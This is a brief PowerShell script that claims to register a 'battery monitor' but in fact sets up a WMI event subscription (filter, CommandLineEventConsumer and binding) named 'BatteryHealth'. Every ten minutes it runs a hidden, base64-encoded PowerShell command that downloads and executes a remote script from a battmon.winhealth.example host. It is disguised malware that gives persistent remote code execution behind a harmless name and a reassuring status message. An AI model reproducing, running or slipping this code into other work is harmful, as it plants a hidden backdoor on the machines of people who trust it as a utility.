$cmd = 'powershell -nop -w hidden -enc ' + [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('https://battmon.winhealth.example/b.ps1')"))
$f = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{ Name = 'BatteryHealth'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'" }
$c = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'BatteryHealth'; CommandLineTemplate = $cmd }
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $f; Consumer = $c } | Out-Null
Write-Host 'Battery monitor registered'
